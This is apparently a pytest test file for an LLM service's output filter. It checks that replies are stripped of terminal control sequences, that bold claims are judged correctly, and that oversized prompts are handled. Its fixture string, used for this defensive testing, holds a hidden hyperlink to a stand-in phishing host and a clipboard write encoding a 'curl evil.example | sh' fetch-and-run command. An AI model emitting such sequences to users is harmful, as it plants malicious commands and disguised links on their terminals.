"""An LLM's reply reaches the caller as plain text (audit R23-F4), over real causal and LLM
servers on localhost, the audit's attribution, and a local OpenAI-compatible endpoint (the one
thing outside the mesh) answering with terminal control sequences.

Before, an OSC 8 hyperlink, an OSC 52 clipboard write, concealed text and a bare carriage
return passed the guardrail and ``liftos explain`` wrote them raw; a right claim in bold
(ANSI or markdown) was judged CONTRADICTED. R23-F6: an endpoint refusing the prompt's size
(a context-length 400) failed Explain; now the grounded explanation goes out, saying why; and a
wide account's prompt (30 more channels with 256-character names) keeps to a budget.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import grpc
import pytest
from liftos.v1 import causal_pb2 as causal_pb
from liftos.v1 import common_pb2 as common_pb
from liftos.v1 import llm_pb2 as pb
from liftos.v1 import llm_pb2_grpc as llm_grpc

from causal_svc.app import build as causal_build
from llm_svc.app import build as llm_build
from llm_svc.context import CONTEXT_BUDGET_CHARS
from llm_svc.plain_text import ControlFilter
from mesh.cli.commands import main
from mesh.runtime.inprocess import running_services
from tests.llm.fake_openai import Script, fake_openai, words
from tests.llm.support import _interval, audit_attribution, store_analyses

ORG = "acme"
ANALYSIS = "an-audit"
ADDRESSES: dict[str, str] = {}
RIGHT = "Meta prospecting increased revenue by 4,100,000 (90% interval 2,000,000 to 6,200,000)."
HOSTILE = (
    f"{RIGHT} \x1b]8;;https://evil.example/login\x07See the full breakdown\x1b]8;;\x07. "
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07Thanks.\x1b[8m hidden text\x1b[0m\r\x1b[2K"
)


WIDE = "an-wide"
LONG = "Out-of-home digital screens across every metro area plus Alaska and Hawaii " * 3


def wide() -> causal_pb.Analysis:
    """The audit's attribution and 30 more channels with 256-character names (R22's wide
    account, longer names): a prompt of 160,000 characters before R23-F6."""
    a = audit_attribution(WIDE, ORG)
    for k in range(30):
        ch = a.attribution.channels.add(
            channel=f"ch{k:02d} {LONG}"[:256], identified=True, media_input=1000.0,
            incremental_outcome=_interval(500_000, 100_000, 900_000),
            incremental_roas=_interval(2.0, 0.4, 3.6),
        )  # fmt: skip
        ch.spend.CopyFrom(common_pb.Money(amount=250_000, currency_code="USD"))
    return a


@pytest.fixture(scope="module")
def llm(tmp_path_factory: pytest.TempPathFactory) -> Iterator[llm_grpc.LlmServiceStub]:
    data: Path = tmp_path_factory.mktemp("reply-controls")
    a = audit_attribution(ANALYSIS, ORG)
    with running_services({"causal": causal_build, "llm": llm_build}, data) as services:
        store_analyses(data, a, wide())
        ADDRESSES.update({name: s.address for name, s in services.items()})
        yield llm_grpc.LlmServiceStub(grpc.insecure_channel(services["llm"].address))


def explain_with(llm: llm_grpc.LlmServiceStub, pieces: list[str]) -> tuple[str, pb.ExplanationDone]:
    with fake_openai(Script(pieces=pieces)) as fake:
        request = pb.ExplainRequest(
            org_id=ORG, analysis_id=ANALYSIS, llm=pb.LlmEndpoint(url=fake.url, model="tiny")
        )
        events = list(llm.Explain(request, timeout=60))
    deltas = "".join(e.text_delta for e in events if e.HasField("text_delta"))
    return deltas, events[-1].done


@pytest.mark.parametrize(
    "pieces",
    [words(HOSTILE), list(HOSTILE), [HOSTILE[i : i + 3] for i in range(0, len(HOSTILE), 3)]],
    ids=["words", "characters", "threes"],
)
def test_control_sequences_never_reach_the_caller(
    llm: llm_grpc.LlmServiceStub, pieces: list[str]
) -> None:
    deltas, done = explain_with(llm, pieces)
    for text in (deltas, done.text):
        assert not any(ch in text for ch in "\x1b\x07\r\x9b\x9d"), repr(text)
        assert "evil.example" not in text and "Y3Vyb" not in text, repr(text)
        assert RIGHT in text and "See the full breakdown" in text
    assert not done.unsupported_claims, [(c.claim, c.reason) for c in done.unsupported_claims]


@pytest.mark.parametrize(
    "answer",
    [
        f"\x1b[1m{RIGHT}\x1b[0m",
        "**Meta prospecting** increased revenue by **4,100,000** (90% interval 2,000,000 to "
        "6,200,000).",
        "`meta_prospecting` increased revenue by *4,100,000* (90% interval 2,000,000 to 6,200,000).",
    ],
    ids=["ansi-bold", "markdown-bold", "code-and-italic"],
)
def test_a_right_claim_in_bold_is_judged_as_written_plain(
    llm: llm_grpc.LlmServiceStub, answer: str
) -> None:
    _, done = explain_with(llm, words(answer))
    assert not done.unsupported_claims, [(c.claim, c.reason) for c in done.unsupported_claims]
    assert "4,100,000" in done.text


def test_liftos_explain_prints_no_control_sequence(
    llm: llm_grpc.LlmServiceStub,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("LIFTOS_LLM_ADDR", ADDRESSES["llm"])
    with fake_openai(Script(pieces=words(HOSTILE))) as fake:
        args = ["explain", ANALYSIS, "--org", ORG, "--llm-url", fake.url, "--llm-model", "m"]
        assert main(args) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\r" not in out, repr(out)
    assert "Meta prospecting increased revenue by 4,100,000" in out


def test_a_sequence_cut_between_chunks_is_dropped_whole() -> None:
    f = ControlFilter()
    out = f.feed("Go \x1b]8;;https://evil.exa") + f.feed("mple/\x07here") + f.feed(" \x1b]52;c;")
    assert out + f.end() == "Go here "


# -- R23-F6: an endpoint that refuses the request's size gets the grounded explanation --------


def test_a_context_length_refusal_falls_back_to_the_grounded_explanation(
    llm: llm_grpc.LlmServiceStub,
) -> None:
    error = "This model's maximum context length is 8192 tokens. However, your messages resulted in 40,000 tokens."
    with fake_openai(Script(status=400, error=error)) as fake:
        request = pb.ExplainRequest(
            org_id=ORG, analysis_id=ANALYSIS, llm=pb.LlmEndpoint(url=fake.url, model="tiny")
        )
        done = list(llm.Explain(request, timeout=60))[-1].done
    assert done.text.startswith("(The LLM endpoint refused the request, HTTP 400")
    assert "Klaviyo email increased revenue by" in done.text
    assert not done.unsupported_claims and done.model == ""
    cited = [done.text[c.start : c.end] for c in done.citations]
    assert any("29,597,531" in t for t in cited), cited  # offsets past the note still hold


def test_a_refused_key_still_fails_the_call(llm: llm_grpc.LlmServiceStub) -> None:
    with fake_openai(Script(status=401, error="invalid api key")) as fake:
        request = pb.ExplainRequest(
            org_id=ORG, analysis_id=ANALYSIS, llm=pb.LlmEndpoint(url=fake.url, model="tiny")
        )
        with pytest.raises(grpc.RpcError) as caught:
            list(llm.Explain(request, timeout=60))
    assert caught.value.code() == grpc.StatusCode.FAILED_PRECONDITION


def test_a_wide_accounts_prompt_keeps_to_its_budget(llm: llm_grpc.LlmServiceStub) -> None:
    reply = llm.BuildContext(pb.BuildContextRequest(org_id=ORG, analysis_ids=[WIDE]), timeout=30)
    _, user = reply.prompts
    assert len(user.content) <= CONTEXT_BUDGET_CHARS + 2_000, len(user.content)
    # the largest established effects stay; the rest are counted, not silently cut
    assert '- effect of "klaviyo email" on revenue' in user.content
    assert '- effect of "meta prospecting" on revenue' in user.content
    assert "further effects of this analysis are left out" in user.content
    # the guardrail still judges a channel the prompt left out
    claims = llm.CheckClaims(
        pb.CheckClaimsRequest(
            org_id=ORG,
            text="Ch29 Out-of-home digital screens increased revenue by 9,000,000 USD.",
            analysis_ids=[WIDE],
        ),
        timeout=30,
    ).claims
    assert [c.verdict for c in claims] == [pb.CLAIM_VERDICT_CONTRADICTED], claims
